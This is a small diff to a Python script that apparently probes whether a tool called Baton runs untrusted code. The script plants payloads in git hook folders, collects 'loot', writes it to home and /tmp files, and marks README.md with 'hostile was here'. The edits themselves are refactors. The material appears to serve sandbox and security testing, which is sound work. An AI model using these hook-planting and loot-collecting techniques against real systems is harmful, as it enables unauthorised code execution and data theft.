@@ -18,6 +18,7 @@ HOME and /tmp, and onto stdout (a checks command's output is shown on the PR). I
 from __future__ import annotations
 
 import argparse
+import contextlib
 import os
 import shlex
 import subprocess
@@ -82,7 +83,9 @@ def _payload(markers: Path, name: str, then: str = "true") -> str:
 def _plant(markers: Path) -> list[str]:
     """Every way to make Baton's own git run our code; each result is noted."""
     notes = []
-    hooks = Path(subprocess.run(["git", "rev-parse", "--git-path", "hooks"], capture_output=True, text=True).stdout.strip())
+    hooks = Path(
+        subprocess.run(["git", "rev-parse", "--git-path", "hooks"], capture_output=True, text=True).stdout.strip()
+    )
     for hook in HOOKS:
         for folder, tag in ((hooks, "hook"), (Path(".hostile-hooks"), "hookspath")):
             try:
@@ -146,10 +149,8 @@ def main() -> int:
 
     text = "\n".join(loot) + "\n"
     for target in (Path(args.loot), Path(os.environ.get("HOME", ".")) / "loot.txt", Path("/tmp/loot.txt")):
-        try:
+        with contextlib.suppress(OSError):
             target.write_text(text)
-        except OSError:
-            pass
     with Path("README.md").open("a", encoding="utf-8") as readme:
         readme.write("hostile was here\n")
     print(text)
